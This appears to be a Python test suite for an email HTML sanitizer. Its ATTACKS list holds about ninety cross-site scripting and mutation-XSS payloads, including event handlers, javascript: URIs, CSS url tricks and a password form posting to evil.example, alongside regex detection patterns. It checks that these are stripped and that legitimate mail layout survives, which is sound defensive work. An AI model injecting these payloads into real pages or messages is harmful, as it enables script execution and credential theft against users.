"""HTML of strangers does nothing: it looks like the mail it is, and that is all."""

import re

import pytest
from hypothesis import given, strategies

from channels.email.parsing.sanitize import sanitized

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='cid:a' onload='alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="blob:https://x/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="cid:x">x</a>',
    '<a href="data:image/png;base64,AAAA">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<table background="javascript:alert(1)"><tr><td>x</table>',
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=//evil.example></object><embed src=//evil.example><applet code=x>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button><isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>x",
    "<body/onpageshow=alert(1) background=javascript:alert(1)>x",
    "<html manifest=//evil.example><head><meta http-equiv=refresh content='0;url=//evil.example'></head>x",
    "<base href=//evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>",
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example)}</style>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?import namespace='t' implementation='#x'><x:script>alert(1)</x:script>",
    "<video src=//evil.example onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<div style='background-image:u\\72l(//evil.example)'>x</div>",
    "<div style='background:URL (//evil.example)'>x</div>",
    "<div style='list-style:url(//evil.example)'>x</div>",
    "<div style='content:url(//evil.example);cursor:url(//evil.example)'>x</div>",
    "<div style='background:image-set(\"//evil.example\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(#x);-moz-binding:url(//evil.example)'>x</div>",
    "<div style='color:red;background:/**/url(//evil.example)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "<div style='position:absolute;top:0;left:0'>x</div>",
    "<div style='transform:scale(99);filter:blur(1px);animation:x'>x</div>",
    "<div style='--x:url(//evil.example);color:var(--x)'>x</div>",
    "<div style='font-family:\"</style><script>alert(1)</script>'>x</div>",
    "<p id=location name=cookie class=admin>x</p>",
    "<a id=x name=y href=# ping=//evil.example download>x</a>",
    "<img srcset='//evil.example 1x' lowsrc=//evil.example dynsrc=//evil.example longdesc=//evil.example>",
    "<img src='//evil.example/x.png'><img src='/api/logout'><img src='x.png'>",
    "<area shape=rect href=javascript:alert(1)><map name=x>",
    "<x onclick=alert(1)>x</x><custom-element is=x>x</custom-element>",
    "<div contenteditable onfocus=alert(1) tabindex=0 accesskey=x data-x=y>x</div>",
    "<plaintext><script>alert(1)",
    "<a href='http://ok.example\" onmouseover=alert(1) x=\"'>x</a>",
    "<img alt='`onerror=alert(1)' src=cid:x>",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>")
HARMFUL = re.compile(
    r"<(?:script|style|iframe|frame|object|embed|form|input|svg|math|meta|link|base|template|textarea|select)|javascript:"
    r"|vbscript:|data:text|data:image/svg|srcdoc|evil\.example",
    re.IGNORECASE,
)  # fmt: skip
STYLES = re.compile(r'style="([^"]*)"')


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_acts(attack: str) -> None:
    clean, _ = sanitized(attack)
    assert HARMFUL.search(_outside_values(clean)) is None
    _is_harmless(clean)


@given(
    strategies.lists(
        strategies.sampled_from(ATTACKS) | strategies.text("<>\"'/=& aimgsrconx", max_size=12), max_size=6
    )
)
def test_whatever_is_put_together_stays_harmless_and_is_read_again_as_it_was_written(
    pieces: list[str],
) -> None:
    clean, remote = sanitized("".join(pieces))
    _is_harmless(clean)
    again, still = sanitized(clean)
    assert (sorted(again), still) == (sorted(clean), remote)


def _outside_values(clean: str) -> str:
    """Without what stands in alt and title, which are words."""
    return re.sub(r'(?:alt|title)="[^"]*"', "", clean)


def _is_harmless(clean: str) -> None:
    """Read by a rule of its own: tags, attributes and addresses of a short list, and text between them."""
    for _, tag, attributes in TAG.findall(clean):
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "meta",
            "link",
        }
        for name, value in re.findall(r' ([a-z]+)="([^"]*)"', attributes):
            assert not name.startswith("on"), name
            assert name not in {"id", "name", "class", "srcset", "action", "formaction", "ping", "srcdoc"}, (
                name
            )
            if name in {"href", "src", "background"}:
                assert re.match(
                    r"(?:https?|mailto|tel|sms|cid):|data:image/(?:png|gif|jpe?g|webp|bmp)",
                    value,
                    re.IGNORECASE,
                )
    assert "<" not in TAG.sub("", clean)
    for style in STYLES.findall(clean):
        assert (
            re.search(
                r"url|expression|position|@|\\|/\*|var\(|image-set|z-index|behavior", style, re.IGNORECASE
            )
            is None
        )


def test_what_gives_a_mail_its_look_stays() -> None:
    look = (
        '<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tbody><tr>'
        '<td valign="top" style="padding:10px 0;font-family:Arial,&quot;Microsoft YaHei&quot;;color:rgb(1,2,3)">'
        '<font color="red" size="2">x</font><br><img src="cid:logo" width="10" height="10" alt="Logo" border="0"></td>'
        "</tr></tbody></table><h1>y</h1><ul><li>z</li></ul><blockquote>q</blockquote><center>c</center><hr>"
    )
    assert sanitized(look) == (look, 0)


def test_the_look_of_the_whole_page_stays() -> None:
    page = '<html><body bgcolor="#eee" style="margin:0" onload="x()"><p>hi</p></body></html>'
    assert sanitized(page)[0] == '<div bgcolor="#eee" style="margin:0"><p>hi</p></div>'


def test_links_open_elsewhere_and_tell_nothing() -> None:
    clean, _ = sanitized('<a href="https://x.example/?a=1&b=2" target=_top rel=opener>x</a>')
    # In any order: the library keeps these in no order of its own.
    assert sorted(clean.removesuffix(">x</a>").split(" ", 2)[2].replace('" ', '"|').split("|")) == [
        'rel="noopener noreferrer nofollow"', 'target="_blank"',
    ]  # fmt: skip
    assert clean.startswith('<a href="https://x.example/?a=1&amp;b=2" ')


@pytest.mark.parametrize(
    ("markup", "count"),
    [
        ('<img src="http://x/1"><img src=HTTPS://x/2>', 2),
        ("<img src=' https://x/1'><img src='ht\ntps://x/2'>", 2),
        ('<table background="https://x/1"><tr><td background="https://x/2">x</table>', 2),
        ('<img src="cid:a"><img src="data:image/png;base64,AAAA">', 0),
        ('<a href="https://x/">x</a> src="https://x/"', 0),
        ("<img alt='x\" src=\"https://x/1' src='cid:a'>", 0),
        ("<div style='background:url(https://x/1)'>x</div>", 0),
    ],
)
def test_images_that_lie_elsewhere_are_counted(markup: str, count: int) -> None:
    assert sanitized(markup)[1] == count
